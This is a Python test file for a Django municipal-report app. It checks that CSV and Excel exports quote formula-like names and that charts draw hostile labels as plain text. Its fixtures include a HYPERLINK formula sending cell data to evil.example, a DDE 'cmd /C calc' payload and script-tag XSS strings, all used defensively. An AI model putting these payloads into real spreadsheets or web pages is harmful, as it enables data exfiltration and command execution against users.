"""Hostile master names in the yearly report's outputs: no live formula in any CSV or workbook (formula injection,
issue #15 finding 3), and plain text in every chart however a name is written (matplotlib math text, finding 4).

The names come in as a municipality's own 開催根拠 (a basis the layout does not name gets a row of its own, first
column of every table and a column header of the ward comparison) and as a ward's name (first column of the ward
comparison). Files are the real downloads, read back with csv and openpyxl.
"""

import csv
import dataclasses
import datetime as dt
import io
import re
from xml.sax.saxutils import escape

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from core.spreadsheet import restore
from meetings.models import MeetingBasis
from reports import exports
from reports.annual import annual_report
from tests.factories import WardFactory
from tests.reports.test_annual import held

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?q="&A1,"詳しくはこちら")'
WARD = "+SUM(1,2)区"
SVG = "{http://www.w3.org/2000/svg}"


@pytest.fixture
def hostile(osaka, kita, coordinator_kita):
    """A meeting in each year under a basis named as a formula, and a ward named as one. The formula basis is
    held twice the year before and once in the year: its difference is -1, which must stay a number."""
    MeetingBasis.objects.create(municipality=osaka, name=LINK, requires_consent=False)
    held(coordinator_kita, kita, basis=LINK)
    for day in (5, 6):
        held(coordinator_kita, kita, basis=LINK, day=dt.date(2019, 6, day))
    WardFactory(municipality=osaka, name=WARD, sort_order=99)


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def _assert_no_formula_in_csv(rows: list[list[str]], *expected: str) -> None:
    cells = [cell for row in rows for cell in row]
    for value in expected:
        assert "'" + value in cells, value  # quoted ...
        assert value not in cells, value  # ... and never bare
        assert restore("'" + value) == value  # the importer gives back what was written
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))
                or (cell.startswith("-") and not re.fullmatch(r"-\d+(\.\d+)?", cell))]


def _assert_no_formula_in_workbook(content: bytes, *expected: str) -> None:
    book = load_workbook(io.BytesIO(content))
    found = set()
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), (sheet.title, cell.value)
                    if restore(cell.value) in expected:
                        assert cell.value.startswith("'")
                        found.add(restore(cell.value))
    assert found == set(expected)


class TestFormulaInjection:
    def test_the_annual_csv_quotes_a_formula_named_basis_and_keeps_numbers(self, client, bureau, hostile):
        client.force_login(bureau)
        response = client.get(reverse("reports:annual_csv"), {"fy": 2020})
        assert response.status_code == 200
        rows = _csv_rows(response.content)
        _assert_no_formula_in_csv(rows, LINK)
        assert ["'" + LINK, "1", "2", "-1"] in rows  # the difference is a number, not quoted

    def test_the_ward_comparison_csv_quotes_a_formula_named_ward_and_a_formula_header(self, client, bureau, hostile):
        client.force_login(bureau)
        response = client.get(reverse("reports:annual_wards_csv"), {"fy": 2020})
        assert response.status_code == 200
        rows = _csv_rows(response.content)
        _assert_no_formula_in_csv(rows, LINK, WARD)
        assert any(row[:1] == ["'" + WARD] for row in rows)
        assert any("'" + LINK in row[1:] for row in rows)  # the basis as a column header

    def test_the_workbook_stores_every_such_cell_as_quoted_text(self, client, bureau, hostile):
        client.force_login(bureau)
        response = client.get(reverse("reports:annual_xlsx"), {"fy": 2020})
        assert response.status_code == 200
        _assert_no_formula_in_workbook(response.content, LINK, WARD)
        book = load_workbook(io.BytesIO(response.content))
        row = next(r for r in book["開催根拠"].iter_rows() if r[0].value == "'" + LINK)
        assert [(c.value, c.data_type) for c in row[1:4]] == [(1, "n"), (2, "n"), (-1, "n")]

    def test_a_suppressed_publication_is_quoted_too(self, client, bureau, hostile):
        client.force_login(bureau)
        for name in ("reports:annual_csv", "reports:annual_wards_csv"):
            response = client.get(reverse(name), {"fy": 2020, "suppress": 3})
            _assert_no_formula_in_csv(_csv_rows(response.content), LINK, *([WARD] if "wards" in name else []))
        workbook = client.get(reverse("reports:annual_xlsx"), {"fy": 2020, "suppress": 3}).content
        _assert_no_formula_in_workbook(workbook, LINK, WARD)

    def test_the_command_writes_quoted_files(self, hostile, tmp_path):
        csv_file, xlsx_file = tmp_path / "annual.csv", tmp_path / "annual.xlsx"
        call_command("annual_report", "--fy", "2020", "--municipality", "大阪市", "--format", "csv",
                     "--output", str(csv_file), stderr=io.StringIO())
        call_command("annual_report", "--fy", "2020", "--municipality", "大阪市", "--format", "xlsx",
                     "--output", str(xlsx_file), stderr=io.StringIO())
        _assert_no_formula_in_csv(_csv_rows(csv_file.read_bytes()), LINK)
        _assert_no_formula_in_workbook(xlsx_file.read_bytes(), LINK, WARD)

    @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
    def test_every_formula_start_in_a_label_is_quoted_in_both_files(self, osaka, kita, start):
        report = annual_report(municipality=osaka, fiscal_year=2020)
        label = f"{start}cmd|' /C calc'!A0"
        basis = [{**row, "label": label} if i == 0 else row for i, row in enumerate(report.tables["basis"])]
        report = dataclasses.replace(report, tables={**report.tables, "basis": basis}, municipality=start + "市")
        rows = _csv_rows(exports.to_csv(report))
        assert ["'" + label, "0", "0", "0"] in rows and rows[0][0].startswith("'" + start)
        book = load_workbook(io.BytesIO(exports.to_xlsx(report)))
        # XML reads a stored CR as LF (end-of-line normalisation); the quote in front is what matters.
        assert book["開催根拠"]["A4"].value == "'" + label.replace("\r", "\n")
        assert book["開催根拠"]["A4"].data_type == "s"
        assert book["開催根拠"]["A1"].value.startswith("'" + start.replace("\r", "\n"))


# Names as people type them: `$…$` is matplotlib math text, `_^{` its sub- and superscripts.
CHART_NAMES = ["山田$\\frac{1$", "$x_^{", "_^{}$$", "<script>alert(1)</script>", "長" * 100]


class TestCharts:
    @pytest.mark.parametrize("name", CHART_NAMES)
    def test_the_annual_page_draws_every_chart_with_a_hostile_basis_name(self, client, bureau, osaka, kita,
                                                                           coordinator_kita, name):
        MeetingBasis.objects.create(municipality=osaka, name=name, requires_consent=False)
        held(coordinator_kita, kita, basis=name)
        client.force_login(bureau)
        for params in ({"fy": 2020}, {"fy": 2020, "ward": kita.pk}, {"fy": 2020, "suppress": 3}):
            response = client.get(reverse("reports:annual"), params)
            assert response.status_code == 200, params
            page = response.content.decode()
            assert page.count('<svg class="chart"') == 5
            assert "<script>alert(1)</script>" not in page
        report = annual_report(municipality=osaka, fiscal_year=2020)
        svg = exports.chart_svg(report, "basis")
        labels = "".join(re.findall(r"<text [^>]*text-anchor[:=] ?\"?end[^>]*>([^<]*)</text>", svg))
        assert escape(name) in labels  # set as written (wrapped over lines when long), not as a formula
        for response in (client.get(reverse(n), {"fy": 2020}) for n in
                         ("reports:annual_csv", "reports:annual_xlsx", "reports:annual_wards_csv")):
            assert response.status_code == 200

    @pytest.mark.parametrize("label", ["$\\frac{1$", "a_^{b}", "長" * 200, " ", "　　　", "<script>", "$" * 50])
    def test_every_chart_draws_any_label_as_plain_text(self, osaka, label):
        report = annual_report(municipality=osaka, fiscal_year=2020)
        tables = {key: [{**row, "label": label} if i == 0 else row for i, row in enumerate(rows)]
                  if isinstance(rows, list) else rows for key, rows in report.tables.items()}
        report = dataclasses.replace(report, tables=tables)
        for key in ("basis", "sv", "referrer", "participants", "issues"):
            svg = exports.chart_svg(report, key)
            assert svg.startswith("<svg") and "<script" not in svg
            labels = "".join(re.findall(r"<text [^>]*text-anchor[:=] ?\"?end[^>]*>([^<]*)</text>", svg))
            if label.strip():
                assert escape(label) in labels, key
